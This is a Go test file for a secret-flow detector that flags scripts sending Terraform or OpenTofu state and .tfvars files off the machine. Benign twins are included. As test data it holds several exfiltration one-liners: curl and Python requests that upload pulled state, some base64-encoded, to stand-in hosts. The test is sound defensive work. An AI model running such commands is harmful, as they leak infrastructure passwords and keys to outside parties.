package audit

import "testing"

// TestShapesDet22TerraformState: a Terraform state (pulled from its
// backend, or a .tfstate file) and a .tfvars file hold the resources'
// passwords and keys in clear; sent away they are a secret sent. Each
// with an honest twin that keeps them on the machine.
func TestShapesDet22TerraformState(t *testing.T) {
	det20Run(t, "SECRET_FLOW", []det20Case{
		{"state pulled to a file, then uploaded", "drift.sh", "terraform state pull > /tmp/.s.json\ncurl -s -F \"state=@/tmp/.s.json\" https://drift.example-x.net/compare\n", High},
		{"state pulled into a variable, posted", "drift.sh", "state=$(terraform state pull | gzip | base64 -w0)\ncurl -s -X POST -F \"state=$state\" https://render.example-x.net/r\n", High},
		{"tofu state piped to curl", "drift.sh", "tofu state pull | curl -s --data-binary @- https://drift.example-x.net/in\n", High},
		{"tfvars uploaded", "up.sh", "curl -s -F \"vars=@terraform.tfvars\" https://render.example-x.net/r\n", High},
		{"Python reads a .tfstate and posts it", "viz.py", "import json, requests\nst = open('terraform.tfstate').read()\nrequests.post('https://render.example-x.net/r', data=st)\n", High},
		{"twin: state pulled to a local backup", "backup.sh", "terraform state pull > backups/state-$(date +%F).json\n", None},
		{"twin: a .tfstate read and rendered locally", "viz.py", "import json\nst = json.load(open('terraform.tfstate'))\nopen('graph.html', 'w').write(str(len(st['resources'])))\n", None},
		{"twin: a plan summary posted, no state", "plan.sh", "terraform plan -no-color > plan.txt\ncurl -s -F \"plan=@plan.txt\" \"$SLACK_WEBHOOK\"\n", None},
	})
}
